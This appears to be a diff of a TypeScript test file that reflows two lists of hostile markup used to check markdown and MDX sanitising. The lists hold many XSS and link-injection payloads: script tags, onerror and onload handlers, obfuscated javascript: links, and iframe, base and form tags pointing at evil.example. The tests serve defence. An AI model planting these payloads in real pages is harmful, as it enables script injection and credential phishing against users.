@@ -10,85 +10,35 @@ import { FIXTURE_CONTENT } from '../support/fixture.ts';
 import { PROJECT } from './folder';
 
 /** Markup that runs, loads, hides or leads astray, for an answer (.md). */
+// biome-ignore format: as many on a line as fit
 const IN_ANSWER = [
-  ...['<script>alert(1)</script>', 'Hi <script src=//evil.example', '<SCRIPT>alert(1)</SCRIPT>', '<scr<script>ipt>x'],
-  ...[
-    '<img src=x onerror=alert(1)>',
-    '<b onclick="alert(1)">hi</b>',
-    '<svg onload=alert(1)>',
-    '<svg><script>1</script>',
-  ],
-  ...['<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data=x>'],
-  ...[
-    '<embed src="x.swf">',
-    '<base href="https://evil.example/">',
-    '<meta http-equiv=refresh content=0>',
-    '<link rel=stylesheet href=x>',
-  ],
-  ...[
-    '<style>body{display:none}</style>',
-    '<form action="https://evil.example"><input name=pin></form>',
-    '<a href="javascript:alert(1)">x</a>',
-  ],
-  ...[
-    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-    '<details open ontoggle=alert(1)>',
-    '<template><script>x</script></template>',
-  ],
-  ...[
-    '<video><source onerror=alert(1)></video>',
-    '<body onload=alert(1)>',
-    'Yes.</main>',
-    "<span title='\"><script>alert(1)</script>'>b</span>",
-  ],
-  ...[
-    'a <!-- --!> <img src=x onerror=alert(1)> --> b',
-    'a <!-- --!> <meta http-equiv=refresh content=0> --> b',
-    'Hi\n\n<!-- for later',
-  ],
-  ...[
-    '<!--><script>alert(1)</script>-->',
-    '<?xml <script>alert(1)</script> ?>',
-    '<![CDATA[<script>alert(1)</script>]]>',
-    '<!DOCTYPE html>',
-  ],
-  ...[
-    '[a](javascript:alert(1))',
-    '[a](JaVaScRiPt:alert(1))',
-    '[a](&#106;avascript:alert(1))',
-    '[a](javascript&colon;alert(1))',
-  ],
-  ...[
-    '[a](java\\script:alert(1))',
-    '[a](<java\tscript:alert(1)>)',
-    '[a](data:text/html,x)',
-    '[a](vbscript:x)',
-    '[a](//evil.example)',
-    '[a](/\\\\evil.example)',
-  ],
-  ...[
-    '[a][1]\n\n[1]: javascript:alert(1)',
-    '<javascript:alert(1)>',
-    '![a](javascript:alert(1))',
-    '![a](data:image/svg+xml,x)',
-    '![a](https://evil.example/x.png)',
-  ],
-  ...[
-    '| a |\n|-|\n| <img src=x onerror=alert(1)> |',
-    'a[^1]\n\n[^1]: [click](javascript:alert(1))',
-    '[<img src=x onerror=alert(1)>](/about)',
-  ],
+  '<script>alert(1)</script>', 'Hi <script src=//evil.example', '<SCRIPT>alert(1)</SCRIPT>', '<scr<script>ipt>x',
+  '<img src=x onerror=alert(1)>', '<b onclick="alert(1)">hi</b>', '<svg onload=alert(1)>', '<svg><script>1</script>',
+  '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data=x>',
+  '<embed src="x.swf">', '<base href="https://evil.example/">', '<meta http-equiv=refresh content=0>',
+  '<link rel=stylesheet href=x>', '<style>body{display:none}</style>',
+  '<form action="https://evil.example"><input name=pin></form>', '<a href="javascript:alert(1)">x</a>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<details open ontoggle=alert(1)>',
+  '<template><script>x</script></template>', '<video><source onerror=alert(1)></video>', '<body onload=alert(1)>',
+  'Yes.</main>', "<span title='\"><script>alert(1)</script>'>b</span>",
+  'a <!-- --!> <img src=x onerror=alert(1)> --> b', 'a <!-- --!> <meta http-equiv=refresh content=0> --> b',
+  'Hi\n\n<!-- for later', '<!--><script>alert(1)</script>-->', '<?xml <script>alert(1)</script> ?>',
+  '<![CDATA[<script>alert(1)</script>]]>', '<!DOCTYPE html>', '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))',
+  '[a](&#106;avascript:alert(1))', '[a](javascript&colon;alert(1))', '[a](java\\script:alert(1))',
+  '[a](<java\tscript:alert(1)>)', '[a](data:text/html,x)', '[a](vbscript:x)', '[a](//evil.example)',
+  '[a](/\\\\evil.example)', '[a][1]\n\n[1]: javascript:alert(1)', '<javascript:alert(1)>',
+  '![a](javascript:alert(1))', '![a](data:image/svg+xml,x)', '![a](https://evil.example/x.png)',
+  '| a |\n|-|\n| <img src=x onerror=alert(1)> |', 'a[^1]\n\n[^1]: [click](javascript:alert(1))',
+  '[<img src=x onerror=alert(1)>](/about)',
 ];
+
 /** The same for the story (.mdx). */
+// biome-ignore format: as many on a line as fit
 const IN_STORY = [
-  ...['{alert(1)}', 'The year {new Date().getFullYear()}', 'import fs from "node:fs"', 'export const x = alert(1)'],
-  ...[
-    '<script>alert(1)</script>',
-    '<Glass />',
-    '<b onClick={alert}>hi</b>',
-    '<div dangerouslySetInnerHTML={{__html: "x"}} />',
-  ],
-  ...['[a](javascript:alert(1))', '<img src="x" onerror="alert(1)" />', '<></>', '[{alert(1)}](/about)'],
+  '{alert(1)}', 'The year {new Date().getFullYear()}', 'import fs from "node:fs"', 'export const x = alert(1)',
+  '<script>alert(1)</script>', '<Glass />', '<b onClick={alert}>hi</b>',
+  '<div dangerouslySetInnerHTML={{__html: "x"}} />', '[a](javascript:alert(1))', '<img src="x" onerror="alert(1)" />',
+  '<></>', '[{alert(1)}](/about)',
 ];
 
 const fixture = readContent(FIXTURE_CONTENT, PROJECT);
